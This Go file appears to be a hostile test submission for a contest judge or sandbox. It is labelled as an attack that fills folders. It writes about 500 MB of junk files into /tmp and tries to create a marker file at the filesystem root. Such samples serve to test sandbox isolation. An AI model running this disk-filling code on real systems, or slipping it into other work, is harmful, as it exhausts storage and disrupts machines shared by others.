// Attack: fills every folder that it can see
// Verdict: AC RTE

package solution

import (
	"fmt"
	"os"
)

func whisper(n int) string {
	return held(n, func() (any, error) {
		for i := 0; i < 1000; i++ {
			if err := os.WriteFile(fmt.Sprintf("/tmp/fill-%d-%d", n, i), make([]byte, 1<<19), 0o666); err != nil {
				return nil, err
			}
		}
		return "wrote 500 MB", nil
	}, func() (any, error) {
		return "wrote", os.WriteFile("/onsite-hostile-marker", nil, 0o666)
	})
}
